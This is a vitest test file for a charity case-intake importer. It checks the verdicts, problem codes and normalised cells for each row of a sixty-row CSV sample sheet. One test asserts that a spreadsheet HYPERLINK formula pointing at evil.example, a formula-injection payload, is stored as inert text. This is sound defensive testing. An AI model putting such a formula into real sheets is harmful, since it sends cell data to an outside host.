/** The sixty rows of the sample sheet, each with the verdict its charity expects, on 22 November 2026. */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { draftOf } from '~/domain/cases/intake-draft';
import { becomesDraft, type Verdict } from '~/domain/cases/intake-problems';
import { judgeSheet } from '~/domain/cases/intake-sheet';

const TODAY = '2026-11-22';
const text = new TextDecoder('utf-8', { fatal: true }).decode(readFileSync('tests/fixtures/intake.csv'));
const [header = [], ...sheet] = Papa.parse<string[]>(text, { skipEmptyLines: 'greedy', delimiter: ',' }).data;
const judged = judgeSheet(header, sheet, TODAY, () => false);

/** Row of data -> verdict and the problems that made it; every other row is accepted. */
const dirty: Readonly<Record<number, readonly [Verdict, readonly string[]]>> = {
  18: ['accept-normalised', ['rewritten:name', 'rewritten:phone', 'rewritten:budget', 'rewritten:urgency']],
  52: ['review', ['budget-missing:budget']],
  53: ['review', ['national-id-wrong:nationalId']],
  54: ['reject', ['not-positive:quantity']],
  55: ['review', ['date-past:neededBy']],
  56: ['reject', ['date-impossible:neededBy']],
  57: ['reject', ['duplicate-row:null']],
  58: ['review', ['kind-unknown:kind']],
  60: ['accept-normalised', ['formula-as-text:notes']],
};

/** What is told beside rows that are otherwise well, so that a person rewords or decides. */
const told: Readonly<Record<number, readonly string[]>> = {
  6: ['private-words:description'],
  7: ['place-in-text:description'],
  12: ['place-in-text:description'],
  26: ['private-words:description'],
  28: ['repair-over-limit:budget'],
  32: ['place-in-text:description'],
  33: ['private-words:description'],
  37: ['private-words:description'],
  39: ['place-in-text:description'],
  43: ['repair-over-limit:budget', 'plain-words:description'],
  47: ['private-words:description'],
  49: ['repair-over-limit:budget'],
  59: ['private-words:description'],
};

test('the sheet has sixty rows of nineteen columns', () => {
  expect(header).toHaveLength(19);
  expect(judged).toHaveLength(60);
});

test.each(judged.map((row) => [row.number, row] as const))('row %i has its verdict, and nothing else is said of it', (number, row) => {
  const [verdict, problems] = dirty[number] ?? ['accept', told[number] ?? []];
  expect(row.verdict).toBe(verdict);
  expect(row.problems.map(({ code, column }) => `${code}:${column}`).sort()).toEqual([...problems].sort());
});

test('what was put right is stored put right', () => {
  const { cells } = judged[17] ?? {};
  expect(cells).toMatchObject({ name: '邓月桂', phone: '18640317055', budget: '189', urgency: '绿' });
});

test('a formula stays the text it is, a quoted cell keeps comma, quotes and line break', () => {
  expect(judged[59]?.cells.notes).toBe('=HYPERLINK("http://evil.example/?x="&A2,"点我")');
  expect(judged[58]?.cells.title).toBe('学习桌, 可升降');
  expect(judged[58]?.cells.description.split('\n')).toHaveLength(3);
});

test('no problem carries a value of the row', () => {
  for (const row of judged) {
    for (const problem of row.problems) expect(Object.keys(problem).sort()).toEqual(['code', 'column']);
  }
});

test('every accepted row gives a draft whose items fit its kind', () => {
  const drafts = judged.filter((row) => becomesDraft(row.verdict)).map((row) => draftOf(row.cells, TODAY));
  expect(drafts).toHaveLength(53);
  for (const draft of drafts) {
    expect(draft.items.length).toBeGreaterThan(0);
    for (const item of draft.items) {
      expect(Number.isInteger(item.asked) && item.asked > 0).toBe(true);
      expect(item.unit !== null).toBe(item.contribution === 'goods');
    }
  }
  expect(drafts.filter((draft) => draft.object === 'door').map((draft) => draft.title)).toEqual(['篮球和跳绳', '缝纫机', '二手电脑']);
  expect(new Set(drafts.map((draft) => draft.object)).size).toBeGreaterThan(15);
});
